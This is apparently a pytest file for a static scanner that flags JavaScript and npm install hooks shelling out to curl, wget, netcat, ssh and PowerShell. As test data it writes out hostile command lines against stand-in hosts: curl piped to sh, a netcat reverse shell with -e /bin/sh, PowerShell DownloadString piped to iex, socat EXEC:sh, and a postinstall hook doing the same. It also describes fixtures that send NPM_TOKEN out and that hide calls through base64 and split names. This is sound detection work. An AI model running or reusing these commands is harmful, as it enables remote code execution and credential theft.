"""JavaScript code that shells out to network tools (child_process) or runs worker code (issue #5).

Each fixture under tests/fixtures/shellout/js is one form; the tests assert
the exact api, line, column, capability, note and destinations, and that
the negatives (`exec('ls')`, a local `exec`, 'curl' in a log line, a command
that is not constant) give no network finding.  The shared command reader
(catalog/commands.py) and the one tool table are tested here too.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from egress.analyzers.javascript import JavaScriptAnalyzer
from egress.catalog import load_catalog
from egress.catalog.commands import read_argv, read_line
from egress.catalog.shell_tools import Launch, load_shell_tools, parse_shell_tools
from egress.install_scripts import NETWORK_TOOLS
from egress.model import Ecosystem, FindingKind, SourceFile
from egress.prefilter import PreFilter
from egress.session import ScanSettings, scan_targets

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "shellout"
JS = FIXTURES / "js"


def _analyse(name: str):
    result = JavaScriptAnalyzer().analyze(SourceFile(name, (JS / name).read_bytes()))
    assert result.error is None
    return result.findings


def _rows(name: str) -> list[tuple]:
    return [(f.kind.value, f.api, f.file, f.line, f.column, f.capability.value, f.note,
             tuple(d.text for d in f.destinations)) for f in _analyse(name)]


POSITIVES = {
    "exec_curl.js": [("network", "child_process.exec → curl", "exec_curl.js", 5, 3, "request", "runs curl",
                      ("https://x.example/i.sh",))],
    "destructured_alias.js": [("network", "child_process.execSync → wget", "destructured_alias.js", 3, 1, "request",
                               "runs wget", ("http://203.0.113.7/p",))],
    "spawn_argv.js": [("network", "child_process.spawn → curl", "spawn_argv.js", 5, 10, "request", "runs curl",
                       ("https://collect.example/c",))],
    "execfile_sync.js": [
        ("network", "child_process.execFile → wget", "execfile_sync.js", 3, 1, "request", "runs wget",
         ("http://files.example/a.tgz",)),
        ("network", "child_process.execFileSync → netcat", "execfile_sync.js", 4, 1, "connect", "runs netcat",
         ("203.0.113.9:4444",)),
        ("network", "child_process.spawnSync → ssh", "execfile_sync.js", 5, 1, "connect", "runs ssh",
         ("build.example",)),
    ],
    "folded.js": [("network", "child_process.execSync → curl", "folded.js", 3, 1, "request", "runs curl",
                   ("http://fold.example/x",))],
    "esm.mjs": [
        ("network", "child_process.exec → curl", "esm.mjs", 4, 1, "request", "runs curl",
         ("https://esm.example/<dynamic>",)),
        ("network", "child_process.spawn → wget", "esm.mjs", 5, 1, "request", "runs wget",
         ("https://shell.example/a",)),
    ],
    "more_forms.ts": [
        ("network", "child_process.exec → netcat", "more_forms.ts", 3, 1, "connect", "runs netcat",
         ("203.0.113.30:9001",)),
        ("network", "child_process.spawn → curl", "more_forms.ts", 4, 1, "request", "runs curl; through bash -c",
         ("https://ts.example/j",)),
        ("network", "child_process.execSync → powershell Invoke-WebRequest", "more_forms.ts", 5, 1, "request",
         "runs powershell Invoke-WebRequest; through powershell", ("https://ps.example/a.exe",)),
    ],
    "wrappers.js": [                                   # cross-spawn, execa, shelljs: same shapes as child_process
        ("network", "cross-spawn → curl", "wrappers.js", 5, 1, "request", "runs curl", ("https://wrap.example/a",)),
        ("network", "cross-spawn.sync → wget", "wrappers.js", 6, 1, "request", "runs wget",
         ("https://wrap.example/b",)),
        ("network", "execa.execa → curl", "wrappers.js", 7, 1, "request", "runs curl", ("https://wrap.example/c",)),
        ("network", "execa.execaCommand → wget", "wrappers.js", 8, 1, "request", "runs wget",
         ("https://wrap.example/d",)),
        ("network", "shelljs.exec → curl", "wrappers.js", 9, 1, "request", "runs curl", ("https://wrap.example/e",)),
    ],
    "evasions.js": [                                   # folded names, a base64 payload, a hidden require
        ("network", "child_process.execSync → curl", "evasions.js", 2, 1, "request",
         "folded: m → child_process; folded: 'ex' + 'ecSync' → execSync; runs curl", ("https://ev.example/a",)),
        ("network", "child_process.exec → wget", "evasions.js", 3, 1, "request",
         "in decoded payload (base64, depth 1); payload line 1; runs wget", ("https://ev.example/b",)),
        ("network", "child_process.spawn → netcat", "evasions.js", 4, 38, "connect",
         "loaded through module.require; runs netcat", ("203.0.113.40:53",)),
    ],
    "promisified.js": [
        ("network", "child_process.exec → curl", "promisified.js", 9, 9, "request", "runs curl",
         ("https://p.example/a",)),
        ("network", "child_process.execFile → wget", "promisified.js", 10, 9, "request", "runs wget",
         ("https://p.example/b",)),
    ],
}


@pytest.mark.parametrize("name", sorted(POSITIVES))
def test_each_form_is_a_network_finding_at_the_call(name: str) -> None:
    assert _rows(name) == POSITIVES[name]


def test_the_finding_carries_module_snippet_trace_and_confidence() -> None:
    [found] = _analyse("exec_curl.js")
    assert (found.module, found.snippet, found.confidence.value, found.in_function) == (
        "child_process", "cp.exec('curl -s https://x.example/i.sh | sh');", "high", True)
    assert [(s.line, s.column, s.note) for s in found.trace] == [(2, 12, "require 'child_process'")]


def test_destinations_are_classified_like_any_request() -> None:
    [alias] = _analyse("destructured_alias.js")
    assert [(d.text, d.known, d.host, d.classes) for d in alias.destinations] == [
        ("http://203.0.113.7/p", "full", "203.0.113.7", ("ip-literal", "public"))]
    exec_found, _ = _analyse("esm.mjs")
    assert [(d.known, d.host) for d in exec_found.destinations] == [("partial", "esm.example")]


def test_data_the_command_carries_is_traced_like_a_request_body() -> None:
    found = _analyse("exfil_env.js")
    assert [(f.api, f.line, f.data_sources, tuple(d.text for d in f.destinations)) for f in found] == [
        ("child_process.exec → curl", 4, ("env NPM_TOKEN",), ("https://collect.example/t",)),
        ("child_process.spawn → curl", 5, ("hostname",), ("https://collect.example/h",)),
    ]


def test_inline_node_code_is_analysed_as_a_payload() -> None:
    assert [(f.kind, f.api, f.line, f.column) for f in _analyse("inline_node.js")] == [
        (FindingKind.NETWORK, "https.get", 2, 1)]


def test_a_worker_with_eval_runs_its_code_and_a_file_worker_does_not() -> None:
    rows = [(f.kind, f.api, f.line, f.column, f.confidence.value) for f in _analyse("worker_eval.js")]
    assert rows == [
        (FindingKind.NETWORK, "fetch", 2, 1, "high"),                              # constant code: a payload
        (FindingKind.DYNAMIC_CODE, "new worker_threads.Worker", 3, 1, "medium"),  # code from argv
    ]


@pytest.mark.parametrize("name", ["neg_ls.js", "neg_local_exec.js", "neg_log.js", "neg_dynamic.js"])
def test_negatives_give_no_finding(name: str) -> None:
    assert _analyse(name) == ()


@pytest.mark.parametrize("name", sorted([*POSITIVES, "inline_node.js", "worker_eval.js", "exfil_env.js"]))
def test_the_prefilter_keeps_every_positive(name: str) -> None:
    prefilter = PreFilter(load_catalog(Ecosystem.NPM), load_catalog(Ecosystem.PYPI))
    assert prefilter.wants(name, (JS / name).read_bytes())


def test_through_the_pipeline_an_install_hook_shelling_out_is_install_time_network(tmp_path: Path) -> None:
    result = scan_targets((str(FIXTURES / "npm-hook"), str(FIXTURES / "npm-runtime")),
                          ScanSettings(cache_dir=str(tmp_path), jobs=1))
    hook, runtime = result.packages
    assert (hook.name, hook.verdict.value, runtime.name, runtime.verdict.value) == (
        "shell-hook", "network", "shell-runtime", "network")
    assert sorted((a.type, a.severity.value, a.finding.file, a.finding.line, a.finding.timing.value, a.api)
                  for a in hook.alerts) == [
        ("installScripts", "high", "package.json", 5, "install", "scripts.postinstall"),
        ("installTimeNetwork", "high", "install.js", 3, "install", "child_process.execSync → curl"),
        ("networkAccess", "medium", "install.js", 3, "install", "child_process.execSync → curl"),
        ("suspiciousDestination", "high", "install.js", 3, "install", "child_process.execSync → curl"),
    ]
    assert [(a.type, a.severity.value, a.finding.file, a.finding.line, a.finding.column, a.api)
            for a in runtime.alerts] == [                                                # quiet.js: none
        ("networkAccess", "medium", "index.js", 4, 10, "child_process.spawn → curl"),
        ("networkAccess", "medium", "telemetry.js", 3, 22, "child_process.exec → curl"),
        ("exfiltration", "critical", "telemetry.js", 3, 22, "child_process.exec → curl"),   # env NPM_TOKEN sent
    ]


# -- the one tool table and the command reader ----------------------------------------------------

def test_install_hooks_and_analyzers_share_one_table() -> None:
    table = load_shell_tools()
    assert NETWORK_TOOLS == table.labels_by_word()
    assert (NETWORK_TOOLS["nc"], NETWORK_TOOLS["iwr"], NETWORK_TOOLS["curl"]) == (
        "netcat", "powershell Invoke-WebRequest", "curl")


def test_a_bad_table_entry_is_refused_at_load() -> None:
    with pytest.raises(ValueError, match="tool.x"):
        parse_shell_tools('[tool.x]\nwords = ["x"]\ncapability = "listen"\naddress = "url"\n')
    with pytest.raises(ValueError, match="launcher.m.f"):
        parse_shell_tools('[launcher.m]\necosystem = "npm"\nsignal = "module"\n[launcher.m.functions]\nf = {}\n')


@pytest.mark.parametrize(("line", "expected"), [
    ("curl -s https://x.example/i.sh | sh", [("curl", "", ("https://x.example/i.sh",))]),
    ("FOO=1 sudo /usr/bin/wget -q http://203.0.113.9/a", [("wget", "", ("http://203.0.113.9/a",))]),
    ("bash -c 'nc -e /bin/sh 203.0.113.5 4444'", [("netcat", "bash -c", ("203.0.113.5:4444",))]),
    ("cmd /c curl.exe http://w.example/", [("curl", "cmd /c", ("http://w.example/",))]),
    ("powershell -c \"(New-Object Net.WebClient).DownloadString('http://p.example/x')|iex\"",
     [("powershell DownloadString", "powershell", ("http://p.example/x",))]),
    ("scp f.tgz ops@host.example:/tmp", [("scp", "", ("host.example",))]),
    ("socat TCP:203.0.113.4:9 EXEC:sh", [("socat", "", ("203.0.113.4:9",))]),
    ("curl <dynamic>", [("curl", "", ("<dynamic>",))]),
    ("curl http://[::1", [("curl", "", ("http://[::1",))]),     # malformed: kept, never a traceback
    ("echo curl https://x.example", []),
    ("curl --version", []),                           # asks the tool about itself
    ("command -v wget && echo ok", []),               # looks the program up
    ("command curl https://c.example/", [("curl", "", ("https://c.example/",))]),
    ("cu<dynamic> https://x.example", []),
    ("iwr http://x.example", []),                     # a powershell alias outside powershell
])
def test_command_lines(line: str, expected: list) -> None:
    reading = read_line(load_shell_tools(), line)
    assert [(u.tool.label, u.via, tuple(d.text for d in u.destinations)) for u in reading.tools] == expected


def test_inline_code_of_an_interpreter_is_handed_back_only_when_constant() -> None:
    table = load_shell_tools()
    assert read_argv(table, ["node", "-e", "fetch(1)"]).inline == [("javascript", "fetch(1)", "node -e")]
    assert read_argv(table, ["node", "-e", "<dynamic>"]).inline == []
    assert read_argv(table, ["node", "app.js", "-e", "x"]).inline == []


@pytest.mark.parametrize(("launch", "call", "expected"), [
    (Launch(program=0, rest=1), "f('curl', '-s', 'https://r.example/')", ("curl", ("https://r.example/",))),
    (Launch(argv=0), "f(['curl', '-s', 'https://r.example/'])", ("curl", ("https://r.example/",))),
    (Launch(program=0, rest=1, argv0=True), "f('/usr/bin/ssh', 'ssh', 'host.example', 'uptime')",
     ("ssh", ("host.example",))),                        # argv0 dropped: not `ssh` taken for the host
])
def test_every_launch_shape_of_the_table_is_read(launch: Launch, call: str, expected: tuple) -> None:
    from egress.analyzers.javascript.parsing import Parsers
    from egress.analyzers.javascript.render import Renderer
    from egress.analyzers.javascript.scope import NameIndex
    from egress.analyzers.javascript.bindings import Bindings, arguments_of
    from egress.analyzers.javascript.shellout import _read

    data = call.encode()
    root = Parsers().parse("a.js", data).tree.root_node
    node = root.named_children[0].named_children[0]
    bindings = Bindings(NameIndex(root, data), lambda ident: None)
    reading = _read(launch, arguments_of(node), bindings, Renderer(bindings, lambda n: (1, 1)))
    assert [(u.tool.label, tuple(d.text for d in u.destinations)) for u in reading.tools] == [expected]


def test_an_install_hook_calling_a_tool_gets_the_destinations_of_the_same_reader() -> None:
    from egress.install_scripts import script_findings
    from egress.model import PackageArtifact

    artifact = PackageArtifact(Ecosystem.NPM, "p", "1.0.0", read_files=lambda want: iter(()), metadata={
        "kind": "tarball", "script_lines": {"postinstall": 6},
        "scripts": {"postinstall": "curl -s https://203.0.113.7/x | sh && nc 203.0.113.8 4444"}})
    network = [f for f in script_findings(artifact) if f.kind is FindingKind.NETWORK]
    assert [(f.api, f.line, f.capability.value, [(d.text, d.classes) for d in f.destinations]) for f in network] == [
        ("curl", 6, "request", [("https://203.0.113.7/x", ("ip-literal", "public"))]),
        ("netcat", 6, "connect", [("203.0.113.8:4444", ("ip-literal", "public"))]),
    ]
